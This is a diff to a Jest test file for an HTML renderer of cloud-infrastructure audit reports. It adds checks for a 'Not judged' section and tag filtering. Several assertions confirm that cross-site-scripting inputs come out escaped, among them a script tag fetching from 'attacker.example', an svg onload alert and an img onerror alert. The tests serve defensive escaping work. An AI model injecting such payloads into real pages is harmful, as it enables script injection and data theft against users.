@@ -19,6 +19,7 @@ describe('renderHtml', () => {
     expect(html).toContain('&lt;/td&gt;&lt;script&gt;fetch(&quot;https://attacker.example/x&quot;)&lt;/script&gt;');
     expect(html).toContain('data-stack="odd&quot;stack&#39;"');
     expect(html).toContain('AWS::S3::Bucket&lt;svg onload=alert(1)&gt;');
+    expect(html).toContain('<code>Custom::&lt;img src=x onerror=alert(&quot;type&quot;)&gt;</code> (1)');
   });
 
   test('loads nothing from elsewhere, and a CSP allows only its own inline style and script, by hash', () => {
@@ -47,6 +48,23 @@ describe('renderHtml', () => {
     expect(row('by-stack', 'ElectionResults')).toEqual(['1', '0', '2']);
     expect(row('by-data-class', 'voter-pii')).toEqual(['1', '1', '1']);
     expect(row('by-data-class', 'election-records')).toEqual(['2', '0', '0']);
+  });
+
+  test('says what no rule judged: a card with the count, a Not judged row per template with its types, and the count per template', () => {
+    const report = sampleAuditReport();
+    const html = renderHtml(report);
+    expect(html).toMatch(/<div class="card unjudged"><b>4<\/b>Not judged/);
+    const section = /<h2>Not judged<\/h2>\n<p class="meta">([^<]*)<\/p>\n<table id="not-judged">[\s\S]*?<\/table>/.exec(html)!;
+    expect(section[1]).toBe('4 resource(s). No rule of the packs that ran judged these resources: a clean result says nothing about them.');
+    const rows = [...section[0].matchAll(/<tr data-stack="([^"]+)"><td><code>([^<]+)<\/code><\/td><td>[^<]+<\/td><td class="num">(\d+)<\/td><td class="types">(.*?)<\/td><\/tr>/g)].map((m) => m.slice(1));
+    expect(rows).toEqual([
+      ['RegistrationPortal', 'cdk.out/RegistrationPortal.template.json', '1', '<code>AWS::CloudFront::OriginAccessControl</code> (1)'],
+      ['county-results', 'vendor/county-results.yaml', '3', '<code>AWS::Glue::Database</code> (1), <code>Custom::VoterRollImport</code> (2)'],
+    ]);
+    expect(html).toMatch(/<tr><td><code>vendor\/county-results\.yaml<\/code><\/td><td>county-results<\/td><td><\/td><td class="num">4<\/td><td class="num">3<\/td><\/tr>/);
+    const clean = renderHtml({ ...report, summary: { ...report.summary, unjudged: 0 }, templates: report.templates.map((t) => ({ ...t, unjudged: [] })) });
+    expect(clean).toContain('<p id="not-judged">Every resource was judged by a rule of the packs that ran.</p>');
+    expect(clean).not.toContain('<table id="not-judged">');
   });
 
   test('a Controls table gives each assessed control its status, styled by state: red when not satisfied, blue with accepted risk, green when satisfied', () => {
@@ -122,7 +140,8 @@ describe('renderHtml', () => {
     expect(html).toContain('<label>Stack tag: county<select data-filter="tag0" id="filter-tag0"><option value="">All</option><option value="Adams">Adams</option><option value="Boone">Boone</option></select></label>');
     expect(html).toContain('<label>Stack tag: environment<select data-filter="tag1" id="filter-tag1">');
     const tagged = [...html.matchAll(/<tr [^>]*data-stack="([^"]+)"[^>]* data-tag0="([^"]*)" data-tag1="([^"]*)">/g)].map((m) => m.slice(1).join(' '));
-    expect(tagged).toHaveLength(report.findings.length + report.waivers.length);
+    const notJudged = report.templates.filter((t) => t.unjudged.length > 0).length;
+    expect(tagged).toHaveLength(report.findings.length + report.waivers.length + notJudged);
     expect(new Set(tagged)).toEqual(new Set(['ElectionResults Adams production', 'RegistrationPortal Boone staging', 'county-results  ']));
     expect(html).toContain('<td><code>county=Adams</code> <code>environment=production</code></td>');
     // Without stack tags there is no tag filter.
